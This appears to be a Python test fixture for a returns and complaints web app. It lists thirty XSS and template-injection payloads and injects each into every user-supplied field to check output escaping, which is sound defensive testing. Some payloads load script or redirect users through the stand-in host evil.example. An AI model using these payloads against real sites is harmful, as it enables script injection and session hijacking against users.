"""Thirty texts that try to become code, and a way to put one into every field that a stranger may have filled (D3)."""

from __future__ import annotations

from dataclasses import fields, replace

from integration.domain.facts import Address, Item
from integration.domain.money import Money
from integration.flows.returns import AnnouncedView
from integration.flows.surveys import Answered
from integration.settings import ContactPerson
from tests.web.conftest import Flows, case, complaint, order

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>ok</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "{{ 7*191 }}{% include 'x' %}${7*191}",
    "\u202e<b>\u0000\ufeffñ\U0001f680&lt;script&gt;",
)


def fill(flows: Flows, payload: str) -> None:
    """The payload in every text of every page."""
    contact = ContactPerson(**{field.name: payload for field in fields(ContactPerson) if field.name != "photo"})
    visit = replace(flows.visit, shop_name=payload, order_number=payload, first_name=payload, contact=contact)
    items = (Item(payload, payload, 2, Money.of("10", "EUR")), Item(payload + "1", payload, 1, Money.of("10", "EUR")))
    story = complaint(number=payload, cause=payload, wish=payload, fix=payload, state=payload)
    flows.visit = visit
    flows.answered = Answered(1, payload, payload)
    flows.complaint, flows.complaints = story, (story, replace(story, state="closed"))
    flows.items, flows.announced = items, AnnouncedView(payload, {payload: 1}, payload, payload)
    flows.address = Address(**{field.name: payload for field in fields(Address)})
    flows.case = case(
        visit=visit, number=payload, state=payload, source=payload, cause=payload, wish=payload, text=payload,
        fix=payload, extra=payload, reasons=(payload,), code_state=payload, extra_offer=payload,
        order=replace(order(), number=payload, items=items),
    )  # fmt: skip
